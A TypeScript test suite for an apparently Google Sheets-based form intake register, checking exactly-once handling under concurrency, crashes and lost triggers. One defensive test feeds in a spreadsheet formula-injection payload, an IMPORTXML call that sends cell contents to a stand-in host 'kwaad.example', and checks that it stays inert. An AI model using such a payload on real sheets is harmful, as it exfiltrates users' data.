/**
 * Through the real bundle: hundreds of submissions at the same moment, while people edit, with a lock that is busy
 * and triggers that never come; and a crash at any call. Each submission lands exactly once.
 */
import type { SeenDecision } from '../../../../src/register/app/intake/handle.ts';
import type { ShownIntake } from '../../../../src/register/app/intake/queue.ts';
import type { Outcome } from '../../../../src/register/domain/import/outcome.ts';
import type { RegisterRow } from '../../../../src/register/domain/schema/tables/index.ts';
import { formSubmitEvent, withTrigger } from '../../../../src/workspace/events.ts';
import { type ExecutionResult, execute } from '../../../../src/workspace/execution.ts';
import { COORDINATOR, keptRegister, type TestRegister } from '../../../support/register.ts';
import { formFile, makeForms, placedRegister } from './support.ts';

const LONG = 400_000;

const copy = (() => {
  let kept: (() => TestRegister) | null = null;
  return (): TestRegister => {
    if (!kept) {
      const register = placedRegister();
      makeForms(register);
      kept = keptRegister(register);
    }
    return kept();
  };
})();

const rows = <T = Record<string, unknown>>(register: TestRegister, table: string): readonly T[] =>
  register.read(table).rows as unknown as readonly T[];
const intakes = (register: TestRegister) => rows<RegisterRow<'intake'>>(register, 'intake');
const mails = (register: TestRegister) => rows<RegisterRow<'outbox'>>(register, 'outbox');

function trigger(register: TestRegister, handler: string): string {
  return [...register.world.triggers.values()].find((one) => one.handler === handler)!.id;
}

const fire = (register: TestRegister, handler: string): ExecutionResult =>
  register.driver.fireNow(trigger(register, handler));

interface Sent {
  readonly from?: number;
  readonly area?: string;
  readonly place?: string;
  readonly editOf?: string;
}

/** A correction of Hessenpoort fase 1, with its name misspelt. */
function submit(register: TestRegister, { from = 1, area = '150,5', place = 'Zwolle', editOf }: Sent = {}) {
  const form = formFile(register, 'aanmelding');
  const named = (title: string, answer: string) =>
    form.model.items.filter((item) => item.title === title).map(({ id }) => [id, answer] as const);
  return register.driver.submitForm(form.id, {
    ...(editOf ? { editOf } : {}),
    answers: {
      'Uw naam': `Inzender ${from}`,
      'Uw e-mailadres': `inzender${from}@zwolle.example`,
      'Uw gemeente': 'Zwolle',
      'Naam van het terrein, als het niet in de lijst stond': 'hesenpoort fase 1',
      'Wat wilt u doen?': 'Gegevens van een terrein verbeteren',
      // Asked on more than one page; what stands on a page that is not passed does not count.
      ...Object.fromEntries([...named('Bruto oppervlakte in hectare', area), ...named('Plaats', place)]),
    },
  });
}

/** Google may hand the same event over once more. */
function again(register: TestRegister, responseId: string): ExecutionResult {
  const { world, project } = register;
  const id = trigger(register, 'onFormSent');
  const event = withTrigger(formSubmitEvent(formFile(register, 'aanmelding').id, responseId), id);
  return execute(world, {
    project,
    functionName: 'onFormSent',
    kind: 'trigger',
    effectiveUser: world.person(COORDINATOR),
    person: null,
    openFileId: null,
    triggerId: id,
    args: (scope) => [event(scope)],
  })!;
}

test(
  '500 at the same moment, some twice, some changed, some while the register is edited: each lands exactly once',
  () => {
    const register = copy();
    const { world, driver } = register;
    const responses: string[] = [];
    const changed = new Map<string, string>();
    const take = (sent: Sent): string => {
      const { response, errors, refusal } = submit(register, sent);
      if (!response) throw new Error(JSON.stringify([errors, refusal]));
      if (!responses.includes(response.id)) responses.push(response.id);
      return response.id;
    };
    const terrains = register.tab('terrain');
    for (let n = 1; n <= 90; n++) {
      // Somebody else holds the lock: for a while, and once for so long that the trigger has to give up.
      if (n === 20) world.faults.push({ kind: 'lock', times: 3 });
      if (n === 41) world.faults.push({ kind: 'lock', times: 9 });
      const id = take({ from: n % 60, area: `${100 + n},5` });
      if (n % 10 === 0) again(register, id);
      if (n % 15 === 0) {
        take({ from: n % 60, area: `${500 + n}`, editOf: id });
        changed.set(id, `${500 + n}`);
      }
      if (n % 9 === 0) driver.edit(COORDINATOR, register.fileId, terrains.id, 'B4', `Marslanden ${n}`);
    }
    expect(world.faults).toEqual([]);
    expect(intakes(register)).toHaveLength(89);
    fire(register, 'onQuarter');
    expect(intakes(register)).toHaveLength(90);

    // Google runs no more than thirty executions of a person at once: the triggers of all others never come.
    const lost = [...world.triggers.values()].filter(({ handler }) => handler === 'onFormSent');
    for (const { id } of lost) world.triggers.delete(id);
    for (let n = 91; n <= 500; n++) take({ from: n % 60, area: `${100 + n},5` });
    for (const one of lost) world.triggers.set(one.id, one);
    expect(responses).toHaveLength(500);
    for (let nights = 0; nights < 5 && intakes(register).length < 500; nights++) {
      driver.advance(nights === 0 ? 0 : 24 * 3_600_000);
      fire(register, 'onNight');
      for (let quarters = 0; quarters < 8 && intakes(register).length < 500; quarters++)
        fire(register, 'onQuarter');
    }

    const found = intakes(register);
    expect(found.map(({ response_id }) => response_id).sort()).toEqual([...responses].sort());
    for (const [id, area] of changed) {
      const row = found.find(({ response_id }) => response_id === id)!;
      expect(JSON.stringify(row.proposal)).toContain(`"new":"${area}"`);
    }
    expect(rows(register, 'contact')).toHaveLength(60);
    const receipts = mails(register).filter(({ kind }) => kind === 'ontvangst');
    expect(receipts).toHaveLength(500 + changed.size);
    expect(new Set(receipts.map(({ dedupe }) => dedupe)).size).toBe(receipts.length);
    expect(found.filter(({ terrain_id }) => terrain_id !== 'OV-0001')).toEqual([]);
    expect(new Set(found.map(({ intake_id }) => intake_id)).size).toBe(500);
    expect(
      world.executions.filter(
        ({ functionName, status }) => functionName === 'onFormSent' && status !== 'completed',
      ),
    ).toEqual([]);
  },
  LONG,
);

/** What must be the same however often it was interrupted: no moments, and no numbers, which are never used again. */
function portrait(register: TestRegister): unknown {
  const plain = (table: string, fields: readonly string[]) =>
    rows(register, table).map((row) => Object.fromEntries(fields.map((field) => [field, row[field]])));
  const found = {
    intake: plain('intake', [
      'subject',
      'municipality_code',
      'submitter_id',
      'terrain_id',
      'status',
      'outcome',
    ]),
    proposal: intakes(register).map(({ proposal }) => (proposal as { fields?: unknown } | null)?.fields),
    contact: plain('contact', ['designation', 'name', 'email', 'role']),
    outbox: plain('outbox', ['kind', 'contact_id', 'subject', 'body_text']),
    terrain: plain('terrain', ['terrain_id', 'display_name', 'gross_area', 'town_name']),
    journal: rows(register, 'journal')
      .filter(({ via }) => via === 'formulier')
      .map(({ table, key, field, old, new: now }) => [
        table,
        key,
        field,
        table === 'terrain' ? [old, now] : null,
      ]),
  };
  return JSON.parse(JSON.stringify(found).replace(/\b(CT|IN|PU)-\d+/g, '$1'));
}

test(
  'a crash at any call while a form comes in: the next night completes it, once',
  () => {
    const clean = copy();
    const [execution] = submit(clean).executions;
    const calls = execution!.reads + execution!.writes;
    const expected = portrait(clean);
    expect(calls).toBeGreaterThan(12);
    expect(calls).toBeLessThanOrEqual(24);
    for (let at = 1; at <= calls; at++) {
      const register = copy();
      register.world.faults.push({ kind: 'crash', atCall: at });
      expect([at, submit(register).executions[0]!.status]).toEqual([at, 'crashed']);
      register.world.faults.length = 0;
      fire(register, 'onNight');
      expect([at, portrait(register)]).toEqual([at, expected]);
      expect(register.world.mail.filter(({ to }) => to.includes('inzender1@zwolle.example'))).toHaveLength(1);
    }
  },
  LONG,
);

/** The panel of somebody, open beside the sheet. */
function panel(register: TestRegister) {
  register.click(['Intake', 'Inzendingen behandelen']);
  const page = register.driver.pages(COORDINATOR, register.fileId).at(-1)!;
  return {
    page,
    run: (name: string, ...args: unknown[]): ExecutionResult => register.driver.callPage(page.id, name, args),
    ask<T>(name: string, ...args: unknown[]): T {
      const result = register.driver.callPage(page.id, name, args);
      const outcome = result.value as Outcome<T>;
      if (!outcome?.ok) throw new Error(JSON.stringify([result.error, outcome]));
      return outcome.value;
    },
  };
}

function decisions(shown: ShownIntake, refused: Readonly<Record<string, string>>): readonly SeenDecision[] {
  return shown.rows.flatMap(({ fields }) =>
    fields.map(({ id, seen }) => ({ id, seen, accepted: !(id in refused), reason: refused[id] ?? '' })),
  );
}

test(
  'a crash at any call while a person decides: deciding again, or the next run, completes it, once',
  () => {
    const seed = copy();
    submit(seed);
    const sent = keptRegister(seed);
    const attempt = (register: TestRegister) => {
      const { ask, run } = panel(register);
      const shown = ask<ShownIntake>('showIntake', 'IN-0001');
      const request = {
        key: shown.key,
        print: shown.print,
        decisions: decisions(shown, { 'terrein.town_name': 'Dat weten we al anders.' }),
        along: {},
        explanation: '',
        overrule: '',
      };
      return { shown, go: () => run('handleIntake', request) };
    };
    const clean = sent();
    const done = attempt(clean).go();
    expect(done.value).toEqual({ ok: true, value: { kind: 'done', says: expect.any(String) } });
    const calls = done.reads + done.writes;
    const expected = portrait(clean);
    for (let at = 1; at <= calls; at++) {
      const register = sent();
      const { go } = attempt(register);
      register.world.faults.push({ kind: 'crash', atCall: at });
      expect([at, go().status]).toEqual([at, 'crashed']);
      register.world.faults.length = 0;
      const { ask } = panel(register);
      // The first thing anybody does under the lock finishes what was begun; reading alone does not.
      fire(register, 'onNight');
      if (ask<ShownIntake>('showIntake', 'IN-0001').open)
        expect(attempt(register).go().value).toMatchObject({ ok: true, value: { kind: 'done' } });
      expect([at, portrait(register)]).toEqual([at, expected]);
    }
  },
  LONG,
);

test('a night with nothing to catch up costs two calls for each form, whatever the number of responses', () => {
  const register = copy();
  for (let from = 1; from <= 12; from++) submit(register, { from });
  fire(register, 'onNight');
  const before = intakes(register);
  register.world.moveClock(register.world.now + 24 * 3_600_000);
  fire(register, 'onNight');
  const { calls } = register.world.executions.findLast(({ functionName }) => functionName === 'onNight')!;
  expect(calls['Form.getResponses']).toBe(2);
  expect(intakes(register)).toEqual(before);
});

test('what is sent as a formula or as HTML stands in the sheet as it was typed', () => {
  const register = copy();
  const hostile = '=IMPORTXML("http://kwaad.example/?"&A1;"//a")';
  const { response } = submit(register, { area: '12,5', place: hostile });
  expect(response).not.toBeNull();
  expect(mails(register)[0]!.body_html).toContain('=IMPORTXML(&quot;');
  const { ask, run } = panel(register);
  const shown = ask<ShownIntake>('showIntake', 'IN-0001');
  const { key, print } = shown;
  const request = { key, print, decisions: decisions(shown, {}), along: {}, explanation: '', overrule: '' };
  expect(run('handleIntake', request).value).toMatchObject({ ok: true, value: { kind: 'done' } });
  expect(register.value('terrain', 2, 'town_name')).toBe(hostile);
  const formulas = register.model.sheets.flatMap(
    (sheet) => JSON.stringify(sheet.toJSON()).match(/"formula":"[^"]*/g) ?? [],
  );
  expect(formulas.filter((text) => /IMPORTXML/.test(text))).toEqual([]);
});

test('an event of a form that is not the register’s, and one without a response, do nothing', () => {
  const register = copy();
  const { world } = register;
  const other = world.addFile({
    ...formFile(register, 'opgave'),
    id: undefined,
    name: 'Iets anders',
  } as never);
  expect(other.id).not.toBe(formFile(register, 'opgave').id);
  const before = JSON.stringify(register.read('intake').rows);
  const result = execute(world, {
    project: register.project,
    functionName: 'onFormSent',
    kind: 'trigger',
    effectiveUser: world.person(COORDINATOR),
    person: null,
    openFileId: null,
    args: [{}],
  })!;
  expect(result.status).toBe('completed');
  expect(JSON.stringify(register.read('intake').rows)).toBe(before);
});
